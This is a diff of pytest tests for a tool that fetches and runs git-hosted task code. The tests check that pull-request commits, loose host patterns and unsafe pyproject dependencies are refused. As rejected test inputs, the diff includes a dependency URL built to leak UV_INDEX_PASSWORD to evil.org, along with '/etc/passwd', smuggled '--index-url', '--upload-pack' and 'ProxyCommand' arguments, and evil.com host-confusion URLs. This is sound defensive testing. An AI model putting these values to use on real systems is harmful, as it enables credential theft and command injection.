@@ -3,15 +3,21 @@
 from __future__ import annotations
 
 import hashlib
+import json
+import os
 import shutil
 from pathlib import Path
 
 import pytest
 from msgspec.structs import replace
 
+from stayer.core.code import check_pattern, not_allowed
 from stayer.core.errors import BadInput
 from stayer.core.model import Code, Pinned, Task
 from stayer.core.submit.checks import new_task
+from stayer.task.prepare.build import project_requirements
+from stayer.task.prepare.programs import Programs, Unprepared
+from stayer.task.prepare.repositories import Repository
 from stayer.worker.allowed_programs import NotAllowed
 from stayer.worker.task_code import CodeRules
 from tests.code.conftest import CodeFleet, GitRepository
@@ -146,6 +152,114 @@ def test_a_branch_that_is_not_there_is_said(fleet: CodeFleet, repository: GitRep
     assert "no branch, tag or commit nowhere" in task.error.message
 
 
+def test_a_commit_of_a_pull_request_is_not_that_of_the_repository(
+    fleet: CodeFleet, repository: GitRepository
+) -> None:
+    """Whoever opens one adds commits to what a server gives out under an allowed address."""
+    first = repository.commit(train="print('ours')\n")
+    repository.commit(train="print('newer')\n")
+    repository.run("checkout", "--quiet", "-b", "theirs")
+    theirs = repository.commit(train="print('theirs')\n")
+    repository.run("update-ref", "refs/pull/1/head", theirs)
+    repository.run("checkout", "--quiet", "main")
+    repository.run("branch", "--quiet", "-D", "theirs")
+    fleet.starts(allow=(f"{repository.url}*",))
+    for id, ref in (("a", theirs), ("b", "refs/pull/1/head"), ("c", first)):
+        fleet.add(id, "python", "train.py", code=Code(git=f"{repository.url}@{ref}"))
+
+    for id in "ab":
+        task = fleet.ended(id)
+        assert task.ending == "environment", fleet.log(id)
+        assert task.error is not None
+        assert "whoever opens a pull request can add other commits" in task.error.message
+    fleet.completed("c")
+    assert "ours" in fleet.log("c")
+
+
+def test_who_may_run_any_code_may_run_that_of_a_pull_request(tmp_path: Path) -> None:
+    repository = GitRepository(tmp_path / "repository")
+    repository.commit(train="")
+    repository.run("checkout", "--quiet", "--detach")
+    commit = repository.commit(train="print('theirs')\n")
+    repository.run("update-ref", "refs/pull/1/head", commit)
+    repository.run("checkout", "--quiet", "main")
+    programs = Programs({"GIT_ALLOW_PROTOCOL": "file", "PATH": os.defpath}, 60.0)
+
+    def copy(name: str, *, any_commit: bool) -> Repository:
+        folder = str(tmp_path / name)
+        return Repository(programs, "git", folder, repository.url, any_commit=any_commit)
+
+    free = copy("free", any_commit=True)
+    free.check_out(free.resolve("refs/pull/1/head"), str(tmp_path / "files"))
+    assert (tmp_path / "files" / "train.py").read_text() == "print('theirs')\n"
+    with pytest.raises(Unprepared, match="no branch or tag"):
+        copy("strict", any_commit=False).check_out(commit, str(tmp_path / "others"))
+
+
+def test_commits_before_and_behind_the_newest_are_found(tmp_path: Path) -> None:
+    """The newest one is fetched alone, and the history is cut there, until another is wanted."""
+    repository = GitRepository(tmp_path / "repository")
+    old = repository.commit(train="old")
+    tip = repository.commit(train="tip")
+    programs = Programs({"GIT_ALLOW_PROTOCOL": "file", "PATH": os.defpath}, 60.0)
+    copy = Repository(programs, "git", str(tmp_path / "copy"), repository.url, any_commit=False)
+    copy.check_out(tip, str(tmp_path / "tip"))
+    new = repository.commit(train="new")
+    repository.commit(train="newer")
+
+    for number, commit in enumerate((new, old)):
+        copy.check_out(commit, str(tmp_path / f"{number}"))
+
+    assert [(tmp_path / name / "train.py").read_text() for name in ("tip", "0", "1")] == [
+        "tip", "new", "old"
+    ]  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("pattern", "git", "is_allowed"),
+    [
+        ("https://git.example.org/acme/*", "https://git.example.org/acme/a/b", True),
+        ("https://git.example.org/acme/*", "https://git.example.org/other", False),
+        ("https://*.example.org/*", "https://git.example.org/acme/x", True),
+        ("https://*.example.org/*", "https://evil.com/x.example.org/y", False),
+        ("https://*/acme/x", "https://evil.com/x/acme/x", False),
+        ("https://git.example.org/*", "http://git.example.org/x", False),
+        ("file:///srv/git/*", "file:///srv/git/a/b", True),
+    ],
+)
+def test_a_pattern_of_a_host_stands_for_no_folder_of_another(
+    pattern: str, git: str, is_allowed: bool
+) -> None:
+    assert (list(not_allowed((), git, (check_pattern(pattern),))) == []) == is_allowed
+
+
+@pytest.mark.parametrize("pattern", ["https://git.example.org*", "https://*", "file://*"])
+def test_a_pattern_without_an_end_of_its_host_is_refused(pattern: str) -> None:
+    with pytest.raises(BadInput, match="say where the host ends"):
+        check_pattern(pattern)
+
+
+@pytest.mark.parametrize(
+    "need",
+    ["greet @ https:evil.org/${UV_INDEX_PASSWORD}/x.whl", "./inner", "greet\r--index-url https:x",
+     "/etc/passwd", "-r x", "greet @ file:/x.whl"],
+)  # fmt: skip
+def test_a_project_names_packages_and_nothing_that_uv_would_look_into(
+    need: str, tmp_path: Path
+) -> None:
+    listed = json.dumps([need])
+    (tmp_path / "pyproject.toml").write_text(f"[project]\ndependencies = {listed}\n")
+    with pytest.raises(Unprepared, match="name a package and a version"):
+        project_requirements(str(tmp_path))
+
+
+def test_packages_of_a_project_are_taken_as_they_are_written(tmp_path: Path) -> None:
+    needs = ["numpy", "a[x, y] >= 1, <2", "b (>=1.0+cu12)", "c~=1.0; python_version < '3.9'"]
+    text = f"[project]\ndependencies = {json.dumps(needs)}\n"
+    (tmp_path / "pyproject.toml").write_text(text)
+    assert project_requirements(str(tmp_path)) == needs
+
+
 def test_a_folder_of_the_worker_is_no_repository_unless_it_is_named(
     fleet: CodeFleet, repository: GitRepository
 ) -> None:
@@ -169,6 +283,9 @@ def test_a_folder_of_the_worker_is_no_repository_unless_it_is_named(
         ("ssh://git@host/acme/x%2f..%2fevil", "without %"),
         ("https://host/acme/%252e%252e/evil", "without %"),
         ("ssh://host%2fevil/acme/x", "without %"),
+        ("https://evil.com?x.example.org/acme/x", "no name of a host"),
+        ("https://evil.com\\.example.org/acme/x", "no name of a host"),
+        ("ssh://git;x@host/acme/x", "no name of a host"),
         ("https://host/repo@--upload-pack=x", "is no branch, tag or commit"),
         ("https://user:secret@host/repo", "credentials"),
         ("ssh://-oProxyCommand=x/repo", "write https://"),
